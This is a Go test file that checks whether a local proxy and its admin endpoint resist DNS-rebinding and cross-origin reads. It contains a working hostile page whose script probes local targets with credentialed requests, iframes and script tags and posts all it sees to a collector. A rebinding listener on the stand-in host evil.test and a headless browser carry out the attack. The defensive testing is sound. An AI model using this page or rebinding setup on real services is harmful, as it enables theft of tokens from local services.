package main

import (
	"bufio"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"sync/atomic"
	"syscall"
	"testing"
	"time"
)

// attackPage is what a hostile site serves. It asks for each target and sends
// all that a script can see of the answers to REPORT.
const attackPage = `<!doctype html><title>attack</title><script>
const see = async (kind, url, options) => {
  try {
    const r = await fetch(url, options)
    return {kind, url, status: r.status, body: await r.text(), headers: JSON.stringify([...r.headers])}
  } catch (e) { return {kind, url, refused: String(e)} }
}
const frame = url => new Promise(done => {
  const f = document.createElement("iframe")
  f.onload = () => {
    let body = ""
    try { body = f.contentDocument.documentElement.outerHTML } catch {}
    done({kind: "frame", url, body})
  }
  f.src = url
  document.body.append(f)
})
const script = url => new Promise(done => {
  const s = document.createElement("script")
  s.onload = () => done({kind: "script", url, status: 200})
  s.onerror = () => done({kind: "script", url, refused: "error"})
  s.src = url
  document.body.append(s)
})
addEventListener("load", async () => {
  const seen = [await see("control", "/attack")]
  for (const url of REBOUND) {
    seen.push(await see("rebound", url), await see("rebound", url, {credentials: "include"}),
      await see("rebound", url, {method: "POST", body: "{}"}), await see("rebound", url, {headers: {"X-Attack": "1"}}), await frame(url))
  }
  for (const url of ELSEWHERE) {
    seen.push(await see("elsewhere", url), await see("elsewhere", url, {credentials: "include"}),
      await see("elsewhere", url, {mode: "no-cors"}), await see("elsewhere", url, {mode: "no-cors", credentials: "include", method: "POST", body: "{}"}),
      await see("elsewhere", url, {headers: {"X-Attack": "1"}}), await frame(url), await script(url))
  }
  await fetch(REPORT, {method: "POST", mode: "no-cors", body: JSON.stringify(seen)})
})
</script><body></body>`

// glance is what a page saw of one answer.
type glance struct {
	Kind, URL, Body, Headers, Refused string
	Status                            int
}

// rebind listens where target does, on another loopback address. It serves page
// once it is asked for, and passes on all else: to a browser, that is a name
// which leads to the attacker first and to target from then on. It returns how
// many connections target got.
func rebind(t *testing.T, target, page string) *atomic.Int64 {
	t.Helper()
	_, p, err := net.SplitHostPort(target)
	must(t, err)
	l, err := net.Listen("tcp", net.JoinHostPort("127.0.0.2", p))
	must(t, err)
	passed := new(atomic.Int64)
	ctx, cancel := context.WithCancel(context.Background())
	var running sync.WaitGroup
	running.Go(func() {
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			running.Go(func() {
				defer c.Close()
				defer context.AfterFunc(ctx, func() { c.Close() })()
				r := bufio.NewReader(c)
				if first, err := r.Peek(len("GET /attack ")); err != nil {
					return
				} else if string(first) == "GET /attack " {
					http.ReadRequest(r)
					fmt.Fprintf(c, "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nConnection: close\r\nContent-Length: %d\r\n\r\n%s", len(page), page)
					return
				}
				passed.Add(1)
				up, err := net.Dial("tcp", target)
				if err != nil {
					return
				}
				defer up.Close()
				defer context.AfterFunc(ctx, func() { up.Close() })()
				running.Go(func() { io.Copy(up, r); up.Close() })
				io.Copy(c, up)
			})
		}
	})
	t.Cleanup(func() { l.Close(); cancel(); running.Wait() })
	return passed
}

// browse opens url in a browser of its own, for which evil.test is 127.0.0.2,
// and returns the first report.
func browse(t *testing.T, url string, reports <-chan []byte) (seen []glance) {
	t.Helper()
	program, err := exec.LookPath("chromium")
	if err != nil {
		absent(t, "chromium is not installed")
	}
	dir := t.TempDir()
	cmd := exec.Command(program, "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-dev-shm-usage",
		"--disable-background-networking", "--disable-component-update", "--disable-sync", "--no-proxy-server",
		"--host-resolver-rules=MAP evil.test 127.0.0.2, MAP *.example.test 127.0.0.1, MAP * ~NOTFOUND, EXCLUDE 127.0.0.1, EXCLUDE 127.0.0.2",
		"--user-data-dir="+filepath.Join(dir, "profile"), "--remote-debugging-port=0", url)
	cmd.Env = []string{"PATH=" + os.Getenv("PATH"), "HOME=" + dir}
	cmd.SysProcAttr = &syscall.SysProcAttr{Setpgid: true}
	must(t, cmd.Start())
	defer func() {
		syscall.Kill(-cmd.Process.Pid, syscall.SIGKILL) // and those that it started
		cmd.Wait()
	}()
	select {
	case b := <-reports:
		must(t, json.Unmarshal(b, &seen))
	case <-time.After(guard):
		t.Fatal("the page does not report")
	}
	return seen
}

func TestPageUnderAReboundNameGetsNothing(t *testing.T) {
	t.Parallel()
	thorough(t)
	o := newOrigin(t, "h1", nil, "api.example.test")
	d, admin := startWithStatus(t, o, "")
	d.wantToken(o, tokenA) // so that there is one to be had
	reports := make(chan []byte, 1)
	collector := newCollector(t, reports)
	elsewhere := func(addr string, paths ...string) (list []string) {
		_, p, _ := net.SplitHostPort(addr)
		for _, host := range []string{"127.0.0.1", "api.example.test"} {
			for _, path := range paths {
				list = append(list, "http://"+host+":"+p+path)
			}
		}
		return list
	}
	for name, tt := range map[string]struct {
		addr    string
		rebound []string
		other   []string
	}{
		"proxy": {d.addr, []string{"/", "/v1/x", "/status.json", "/https://api.example.test/v1/x"}, elsewhere(admin, "/status.json", "/healthz", "/")},
		"admin": {admin, []string{"/", "/status.json", "/healthz", "/readyz"}, elsewhere(d.addr, "/", "/v1/x")},
	} {
		rebound, _ := json.Marshal(tt.rebound)
		other, _ := json.Marshal(tt.other)
		page := strings.NewReplacer("REBOUND", string(rebound), "ELSEWHERE", string(other), "REPORT", `"`+collector+`"`).Replace(attackPage)
		passed := rebind(t, tt.addr, page)
		_, p, _ := net.SplitHostPort(tt.addr)
		seen := browse(t, "http://evil.test:"+p+"/attack", reports)
		if len(seen) != 1+5*len(tt.rebound)+7*len(tt.other) || seen[0].Kind != "control" || seen[0].Body != page {
			t.Fatalf("%s: the attack has not run: %+v", name, seen)
		}
		if passed.Load() == 0 {
			t.Errorf("%s: the rebound name has not led there", name)
		}
		for _, g := range seen[1:] {
			g.wantNothing(t, name, tokenA, d.home, "token_file", "prefix", "requests")
		}
	}
	o.nothing(t)
	if s := d.reported(); len(s.Rules) != 1 || s.Rules[0].Requests != 1 {
		t.Errorf("the rule has been used: %+v", s.Rules)
	}
}

// wantNothing holds that a script saw no more of an answer than that it was a
// refusal, and of another origin's not even that.
func (g glance) wantNothing(t *testing.T, where string, secrets ...string) {
	t.Helper()
	for _, secret := range secrets {
		if strings.Contains(g.Body+g.Headers, secret) {
			t.Errorf("%s: the page has %q: %+v", where, secret, g)
		}
	}
	switch {
	case g.Kind == "rebound" && g.Status < 400:
		t.Errorf("%s: a rebound name is served: %+v", where, g)
	case g.Kind == "elsewhere" && (g.Status != 0 || g.Body != ""), g.Kind == "script" && g.Refused == "":
		t.Errorf("%s: another origin's answer can be read: %+v", where, g)
	}
}

// newCollector returns where a page reports to.
func newCollector(t *testing.T, reports chan<- []byte) string {
	l, err := net.Listen("tcp", "127.0.0.1:0")
	must(t, err)
	s := &http.Server{Handler: http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) {
		if b, err := io.ReadAll(r.Body); err == nil && r.Method == http.MethodPost {
			reports <- b
		}
	})}
	served := make(chan struct{})
	go func() { defer close(served); s.Serve(l) }()
	t.Cleanup(func() { s.Close(); <-served })
	return "http://" + l.Addr().String() + "/report"
}
